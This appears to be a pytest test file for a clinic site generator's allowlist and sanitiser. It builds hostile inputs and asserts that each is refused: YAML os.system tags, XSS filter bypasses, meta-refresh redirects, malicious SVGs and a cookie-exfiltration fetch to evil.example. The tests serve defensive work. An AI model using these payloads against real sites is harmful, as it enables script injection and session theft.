"""Allowlists, not denylists: each way through found by trying the site as an
attacker would (a fresh clone, bypasses instead of the obvious forms), tried
again with the input as given. Each one stops the build with a problem naming
the file (and line where one exists) and no traceback, or leaves nothing of
itself in the built site.

The settings gate (clinicsite/config.py), the output allowlist
(clinicsite/allowlist.py, in Markdown and in the publishing step), the file
kinds and drawings (checks_files.py, svg.py) and the preview's own host
(preview.py)."""
from __future__ import annotations

import base64
import hashlib
import http.client
import os
import re
import shutil
import subprocess
import sys
import threading
from pathlib import Path

import markdown
import pytest
from conftest import FIXTURE, ROOT, build, copy_fixture, html_pages

from clinicsite import allowlist, checks, config as site_config, facts, publish, svg
from clinicsite.preview import Preview, Result

pytestmark = pytest.mark.generator
CONFIG, _ = facts.load(FIXTURE / "mkdocs.yml")
REVIEWER = CONFIG["extra"]["team"][0]["id"]
EVIL = "https://evil.example/"
REFRESH = f'<meta http-equiv="refresh" content="0;url={EVIL}">'


def page(body: str, title: str = "A page for the tests", extra: str = "") -> str:
    """A page whose body starts on line 10 (BODY)."""
    return (f"---\ntitle: {title}\ndescription: A short page that the tests use to try one thing at a time.\n"
            f"reviewed_by: {REVIEWER}\nlast_reviewed: 2026-11-01\nnext_review: 2027-11-01\nunlisted: true\n"
            f"{extra}---\n\n{body}\n")


BODY = 10  # the first line of a page's body


# ---- 1, 2: settings cannot run code or leak the environment ------------------------

def test_a_python_tag_in_mkdocs_yml_is_refused_before_it_runs(tmp_path):
    """Finding 1 and acceptance 2: the check command and the build refuse the
    file, naming its line, and the command in the tag never runs."""
    config = copy_fixture(tmp_path)
    marker = tmp_path / "ran"
    text = config.read_text()
    text = text.replace("\nextra:\n", f"\nextra:\n  probe: !!python/object/apply:os.system [\"touch {marker}\"]\n", 1)
    config.write_text(text)
    line = text.splitlines().index(next(l for l in text.splitlines() if "probe:" in l)) + 1
    check = subprocess.run([sys.executable, str(ROOT / "scripts" / "check.py"), "--config", str(config)],
                           capture_output=True, text=True)
    result = build(tmp_path / "site", config=config, check=False)
    for output, code in ((check.stdout + check.stderr, check.returncode), (result.stdout + result.stderr, result.returncode)):
        assert code != 0 and "Traceback" not in output, output[-2000:]
        assert f"mkdocs.yml:{line}: settings:" in output and "python/object/apply" in output, output[-2000:]
    assert not marker.exists(), "the tag's command ran"
    assert not (tmp_path / "site").exists()


def test_only_the_listed_functions_and_the_build_mode_pass_the_gate(tmp_path):
    site_config.gate(ROOT / "mkdocs.yml")  # the site's own settings: the emoji functions, !ENV for the mode
    config = copy_fixture(tmp_path)
    original = config.read_text()
    cases = {
        # Finding 2: a secret of the build machine into every page.
        "short_name: !ENV [CLINIC_SECRET_TOKEN, none]": "!ENV",
        "short_name: !!python/name:os.system": "python/name:os.system",
        "short_name: !relative $config_dir": "!relative",
    }
    for value, shown in cases.items():
        text = re.sub(r"(?m)^(\s+)short_name:.*$", lambda m: m.group(1) + value, original, count=1)
        assert text != original
        config.write_text(text)
        line = next(i for i, l in enumerate(text.splitlines(), 1) if value in l)
        with pytest.raises(site_config.SettingsError, match=rf"mkdocs\.yml:{line}: settings: .*{re.escape(shown)}"):
            site_config.load(config)


# ---- 3-10: one small site with every hostile input, built as the README builds ------

HOSTILE_PAGES = {
    # 3: a script on the site's own address, hidden from the source check by a code span.
    "backtick.md": page('<div>`<script src="/assets/probe.es"></script>`</div>'),
    # 3: halves joined by the comment remover.
    "script-join.md": page('<div><scr<!-- -->ipt src="/assets/probe.es"></script></div>'),
    "href-join.md": page('<div><a hr<!-- -->ef="javascript:alert(1)">x</a></div>'),
    # 7: visitors sent elsewhere by a meta refresh.
    "meta-backtick.md": page(f"<div>`{REFRESH}`</div>"),
    "cdata.md": page(f"<![CDATA[ x > {REFRESH} ]]>"),
    "bang-comment.md": page(f"<!-- x --!> {REFRESH} -->"),
    # Published but inert before: now named.
    "ref-link.md": page("Read [this][x].\n\n[x]:\n    javascript:alert(1)"),
    "attr-list.md": page("A paragraph.\n{ foo onclick=alert(1) }"),
    "note-attrs.md": page("/// note | Look\n    attrs: {onclick: alert(1)}\n\nWords.\n///"),
    "data-type.md": page('<div markdown>\n<script data-type="application/json">alert(1)</script>\n</div>'),
    "images.md": page("![one](//evil.example/a.png)\n\n![two](/\\evil.example/b.png)"),
}
# (file, line, rule): what the build must name. Pages: their body's line.
EXPECTED = [
    ("docs/backtick.md", BODY, None), ("docs/script-join.md", BODY, "output-html"),
    ("docs/href-join.md", BODY, "output-html"), ("docs/meta-backtick.md", BODY, None),
    ("docs/cdata.md", BODY, "output-html"), ("docs/bang-comment.md", BODY, "output-html"),
    ("docs/ref-link.md", BODY + 3, None), ("docs/attr-list.md", BODY + 1, None), ("docs/note-attrs.md", BODY + 1, None),
    ("docs/data-type.md", BODY + 1, None), ("docs/images.md", BODY, None), ("docs/images.md", BODY + 2, None),
    ("docs/assets/probe.es", 1, "stray-file"),                       # 3: not a kind the site publishes
    ("docs/page.markdown", 1, "stray-file"),                         # 4
    ("docs/x.shtml", 1, "stray-file"), ("docs/y.xht", 1, "stray-file"),  # 6
    ("docs/template.md", 8, "template"), ("docs/template.md", 3, "description"),  # 7
    ("docs/assets/clinic.css", 1, "stray-file"),                     # 8
    ("docs/f05.md", 1, "file-link"),                                 # 10
]


@pytest.fixture(scope="module")
def hostile_build(tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile")
    config = copy_fixture(root)
    docs = root / "docs"
    for name, text in HOSTILE_PAGES.items():
        (docs / name).write_text(text.replace("title: A page for the tests", f"title: Trying {name}"))
    (docs / "assets" / "probe.es").write_text("fetch('https://evil.example/?' + document.cookie)\n")
    (docs / "page.markdown").write_text(page(f"<script>alert(1)</script>\n\n{REFRESH}",
                                             title="<img src=x onerror=alert(1)>"))
    (docs / "x.shtml").write_text("<script>alert(1)</script>\n")
    (docs / "y.xht").write_text('<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>\n')
    description = f'"\\"><meta http-equiv=\\"refresh\\" content=\\"0;url={EVIL}\\">"'
    (docs / "template.md").write_text(page("Words.", extra="template: base.html\n").replace(
        "description: A short page that the tests use to try one thing at a time.", f"description: {description}"))
    (docs / "assets" / "clinic.css").write_text('body::after{content:"Call 1-900-555-0000 now"}\n')
    os.mkfifo(docs / "f05.md")
    # 9: a redirect key that climbs out of the site.
    text = config.read_text()
    config.write_text(text.replace("\n  redirects:\n", "\n  redirects:\n    ../../x: about/\n", 1))
    result = build(root / "site", config=config, check=False)
    return root, result.returncode, result.stdout + result.stderr


def test_every_hostile_input_stops_the_build_naming_its_file_and_line(hostile_build):
    root, code, output = hostile_build
    assert code != 0 and "Traceback" not in output, output[-3000:]
    missing = []
    for file, line, rule in EXPECTED:
        pattern = re.escape(file) + ":" + (str(line) if line else r"\d+") + ": " + (rule or "[a-z-]+") + ":"
        if not re.search(pattern, output):
            missing.append((file, line, rule))
    assert not missing, f"not named: {missing}\n{output[-4000:]}"
    redirect_line = next(i for i, l in enumerate((root / "mkdocs.yml").read_text().splitlines(), 1) if "../../x" in l)
    assert f"mkdocs.yml:{redirect_line}: redirect:" in output
    assert not (root / "site").exists() and not (root.parent / "x").exists()


def test_the_output_allowlist_names_what_the_source_checks_miss(hostile_build):
    """The bypasses of the source check are named by the allowlist, with the
    element or attribute a browser would see."""
    _, _, output = hostile_build
    assert re.search(r"docs/script-join\.md:10: output-html: in the built page, .*<script>", output)
    assert re.search(r"docs/bang-comment\.md:10: output-html: in the built page, <meta>", output)
    assert re.search(r"docs/cdata\.md:10: output-html: in the built page, <meta>", output)
    assert re.search(r"docs/href-join\.md:10: output-html: ", output)
    assert re.search(r"docs/attr-list\.md:\d+: (output-html|raw-html): .*onclick", output)
    assert re.search(r"docs/note-attrs\.md:\d+: (output-html|raw-html): .*onclick", output)


# ---- the allowlist as Zensical runs it: the Markdown step and the publishing command --

def test_without_the_plugin_the_markdown_step_and_the_publishing_step_still_refuse(tmp_path):
    html = markdown.markdown(f'<div><scr<!-- -->ipt>alert(1)</script></div>\n\n{REFRESH}',
                             extensions=["md_in_html", "clinicsite.comments", "clinicsite.allowlist"])
    assert allowlist.REFUSED in html and "alert(1)" not in html
    assert [f.message for f in allowlist.refused_items(html)]
    (tmp_path / "page").mkdir()
    (tmp_path / "page" / "index.html").write_text(f"<!doctype html><html><head><meta charset=\"utf-8\"></head>"
                                                  f"<body><article>{html}</article></body></html>")
    with pytest.raises(publish.PublishError, match=r"page/index\.html: "):
        publish.check_pages(tmp_path, CONFIG)
    (tmp_path / "page" / "index.html").write_text('<!doctype html><html><head><meta charset="utf-8"></head><body>'
                                                  f'<img src="/\\evil.example/x.png"><form action="{EVIL}"></form>'
                                                  '<script data-type="a">alert(1)</script>'
                                                  '<nav><a href="javascript:alert(1)">a post</a></nav></body></html>')
    (tmp_path / "probe.es").write_text("alert(1)")
    with pytest.raises(publish.PublishError) as err:
        publish.check_pages(tmp_path, CONFIG)
    for words in ("probe.es", "`src` on <img>", "form", "<script>", "javascript:"):
        assert words in str(err.value), str(err.value)


def test_the_theme_and_the_components_are_on_the_allowlist(tmp_path):
    """The fixture's gallery of every component, built: each finished page
    passes the page allowlist, and the gallery's article the article one."""
    endpoint = "https://forms.example.org/f/test"
    config = copy_fixture(tmp_path, facts={"extra.clinic.form.endpoint": endpoint})
    build(tmp_path / "site", config=config)
    pages = html_pages(tmp_path / "site")  # not the redirect pages publish.py writes itself
    assert len(pages) >= 5
    for path in pages:
        assert allowlist.problems(path.read_text(), allowlist.PAGE, page=True, endpoint=endpoint) == [], path
    for name in ("components", "contact"):
        text = (tmp_path / "site" / name / "index.html").read_text()
        article = text[text.index("<article"):text.index("</article>") + len("</article>")]
        assert allowlist.problems(article) == [], name
    assert "<form" in article, "the contact page shows the contact form"


@pytest.mark.parametrize("html, words", [
    ('<p onclick="x()">a</p>', "runs a script"),
    ('<a href=" jAvA\tscript:alert(1)">a</a>', "javascript"),
    ('<img src="//evil.example/a.png">', "another site"),
    ('<img src="/\\evil.example/a.png">', "another site"),
    ('<img src="HTTPS://evil.example/a.png">', "loads from another address"),
    ('<script type="module">x</script>', "script"),
    ("<p>a<!-- note --></p>", "comment"),
    ("<!-- a comment first -->\n<p>a</p>", "comment"),
    ("<p>a</p></body></html><!-- a comment last -->", "comment"),
    ('<base href="https://evil.example/">', "<base>"),
    ('<p data-md-component="search">a</p>', "not on the site's list"),
    ('<p id="__config">a</p>', "plain id"),
    ('<table><tr><td style="background:url(https://evil.example/)">a</td></tr></table>', "inline styles"),
    ('<body onload="x()">', "attributes"),
])
def test_the_article_allowlist_refuses(html, words):
    found = allowlist.problems(html)
    assert found and any(words.lower() in f.message.lower() for f in found), found


def test_the_article_allowlist_allows_markdown_and_links():
    html = markdown.markdown("# Title\n\n[a](https://example.org/) [b](mailto:a@example.org) [c](tel:+12025550100)"
                             "\n\n| a | b |\n|:--|--:|\n| 1 | 2 |\n\n![x](images/x.svg)\n\n<!-- more -->",
                             extensions=["tables"])
    assert allowlist.problems(html) == []


# ---- 5: drawings by allowlist ---------------------------------------------------------

SVG = '<svg xmlns="http://www.w3.org/2000/svg" {ns}>{body}</svg>'
HOSTILE_SVGS = {
    "prefixed.svg": SVG.format(ns='xmlns:s="http://www.w3.org/2000/svg"', body="<s:script>alert(1)</s:script>"),
    "entity.svg": '<!DOCTYPE svg [<!ENTITY x "&lt;script&gt;alert(1)&lt;/script&gt;">]>' + SVG.format(ns="", body="&x;"),
    "xhtml.svg": SVG.format(ns='xmlns:h="http://www.w3.org/1999/xhtml"', body="<h:script>alert(1)</h:script>"),
    "set.svg": SVG.format(ns="", body='<a><set attributeName="href" to="javascript:alert(1)"/><text>x</text></a>'),
    "image.svg": SVG.format(ns="", body='<image href="HTTPS://evil.example/a.png"/>'),
    "use.svg": SVG.format(ns="", body='<use href="/\\evil.example/a.svg#a"/>'),
    "import.svg": SVG.format(ns="", body="<style>@import url(https://evil.example/a.css);</style>"),
    "filter.svg": SVG.format(ns="", body='<rect width="1" height="1" filter="url(https://evil.example/f.svg#f)"/>'),
}


def test_each_hostile_drawing_is_one_problem_naming_the_file(tmp_path):
    config = copy_fixture(tmp_path)
    (tmp_path / "docs" / "images").mkdir()
    for name, text in HOSTILE_SVGS.items():
        (tmp_path / "docs" / "images" / name).write_text(text)
    (tmp_path / "docs" / "images" / "fine.svg").write_text(
        SVG.format(ns='viewBox="0 0 2 2"', body='<style>@media (prefers-color-scheme: dark){.a{fill:#fff}}</style>'
                   '<defs><linearGradient id="g"><stop offset="0" stop-color="#000"/></linearGradient></defs>'
                   '<rect class="a" width="2" height="2" fill="url(#g)"/>'))
    _, found = checks.run(config, mode="test")
    named = [p for p in found if p.file.startswith("docs/images/")]
    for name in HOSTILE_SVGS:
        assert [p.rule for p in named if p.file == f"docs/images/{name}"] == ["stray-file"], (name, named)
    assert not [p for p in named if p.file.endswith("fine.svg")]
    assert svg.refused(HOSTILE_SVGS["entity.svg"].encode()).startswith("the drawing declares a DOCTYPE")


# ---- 11: the preview answers only its own host -----------------------------------------

@pytest.fixture
def preview(tmp_path):
    config = copy_fixture(tmp_path)
    site = tmp_path / "built"
    site.mkdir()
    (site / "index.html").write_text("<!doctype html><html><body>home</body></html>")
    server = Preview(config)
    server.site, server.result = site, Result(ok=True, usable=True)
    port = server.listen(0)
    yield port
    server.server.shutdown()
    server.server.server_close()
    shutil.rmtree(server.work, ignore_errors=True)


def ask(port: int, path: str, host: str | None = None) -> tuple[int, bytes]:
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
    conn.putrequest("GET", path, skip_host=True, skip_accept_encoding=True)
    conn.putheader("Host", f"127.0.0.1:{port}" if host is None else host)
    conn.endheaders()
    response = conn.getresponse()
    body = response.read()
    conn.close()
    return response.status, body


def test_the_preview_answers_only_its_own_host_and_refuses_bad_paths(preview):
    port = preview
    assert ask(port, "/")[0] == 200
    assert ask(port, "/", host=f"localhost:{port}")[0] == 200
    for host in (f"evil.example:{port}", "127.0.0.1", f"127.0.0.1:{port}.evil.example", ""):
        assert ask(port, "/", host=host)[0] == 421, host
    for path in ("/%00", "/a%00b/", "/" + "a/" * 30000, "/%ff%fe/"):
        status, body = ask(port, path)
        assert status == 400 and b"Traceback" not in body, (path[:40], status)
    assert ask(port, "/")[0] == 200, "the preview still answers after bad requests"


# ---- acceptance 3: the built site, served with no headers (as GitHub Pages) ----------

WATCH = """
window.__violations = [];
document.addEventListener('securitypolicyviolation',
  e => window.__violations.push(e.violatedDirective + ' ' + e.blockedURI), true);
"""


@pytest.mark.browser
def test_every_page_and_drawing_runs_only_the_themes_scripts_and_asks_only_the_site(new_page, site_dir, base_url):
    """Every page and every published SVG of the sample site, under the meta
    policy alone: each script in the page is the theme's (a file of the site, or
    an inline script whose hash the policy lists), nothing is refused by the
    policy (nothing else tried to run or load), and no request leaves the site."""
    from urllib.parse import urlsplit

    own = urlsplit(base_url).netloc
    pages = [p.relative_to(site_dir).as_posix() for p in html_pages(site_dir)]
    drawings = [p.relative_to(site_dir).as_posix() for p in site_dir.rglob("*.svg")]
    assert len(pages) >= 20 and drawings
    tab = new_page(width=1280)
    tab.add_init_script(WATCH)
    seen, dialogs = [], []
    tab.on("request", lambda request: seen.append(request.url))
    tab.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    for rel in pages:
        tab.goto(base_url + rel, wait_until="load")
        policy = tab.locator('meta[http-equiv="Content-Security-Policy"]').get_attribute("content")
        listed = set(re.findall(r"'(sha256-[^']+)'", policy))
        scripts = tab.evaluate("""() => Array.from(document.scripts).map(s => ({src: s.src, type: s.type,
                                   text: s.src ? '' : s.textContent}))""")
        for script in scripts:
            if script["src"]:
                assert urlsplit(script["src"]).netloc == own, (rel, script["src"])
            elif script["type"] not in ("application/json", "application/ld+json"):
                digest = "sha256-" + base64.b64encode(hashlib.sha256(script["text"].encode()).digest()).decode()
                assert digest in listed, (rel, script["text"][:80])
        assert tab.evaluate("window.__violations") == [], rel
    for rel in drawings:
        tab.goto(base_url + rel, wait_until="load")
        assert tab.evaluate("document.querySelectorAll('script, foreignObject, *|script').length") == 0, rel
    assert dialogs == []
    foreign = [u for u in seen if urlsplit(u).scheme.startswith("http") and urlsplit(u).netloc != own]
    assert foreign == [], foreign


def test_a_blog_post_title_with_a_javascript_link_stops_the_build(tmp_path):
    """Published but inert before: the blog writes a post's title into its
    index as Markdown, so a `javascript:` link in the title became a link there."""
    from conftest import copy_project

    config = copy_project(tmp_path)
    post = tmp_path / "docs" / "blog" / "posts" / "signs-of-depression-men-miss.md"
    text = post.read_text()
    post.write_text(text.replace("title: Signs of depression that men often miss",
                                 'title: "[Signs of depression](javascript:alert(1)) that men often miss"', 1))
    result = build(tmp_path / "site", config=config, check=False)
    output = result.stdout + result.stderr
    assert result.returncode != 0 and "Traceback" not in output, output[-3000:]
    assert "docs/blog/posts/signs-of-depression-men-miss.md:2: title:" in output, output[-3000:]
    assert not (tmp_path / "site").exists()
